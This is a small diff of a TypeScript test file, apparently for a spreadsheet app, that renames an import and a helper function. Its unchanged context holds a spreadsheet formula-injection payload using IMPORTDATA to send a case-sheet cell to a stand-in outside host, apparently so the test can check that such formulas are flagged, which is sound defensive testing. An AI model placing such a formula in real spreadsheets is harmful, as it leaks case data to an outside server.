@@ -4,7 +4,7 @@ import { mainRegister } from "../../scripts/play/register-cells";
 import { applied } from "../../scripts/workspace/sheets/requests/batch-update";
 import { sheetsSlice } from "../../scripts/workspace/sheets/store";
 import type { TabId } from "../../src/register/columns";
-import { Day, report } from "../situations/day-stage";
+import { Day, reportOn } from "../day";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
 const told = (day: Day) => day.out().inbox.filter(({ message }) => message === "formula-found");
@@ -24,7 +24,7 @@ function formulas(day: Day): readonly string[] {
   );
 }
 
-const alex = report("Alex Doe", "1001");
+const alex = reportOn("Alex Doe", "1001");
 const edited = (tab: TabId, set: object) => ({
   edit: { tab, case: "26-0001", set },
   as: "contact",
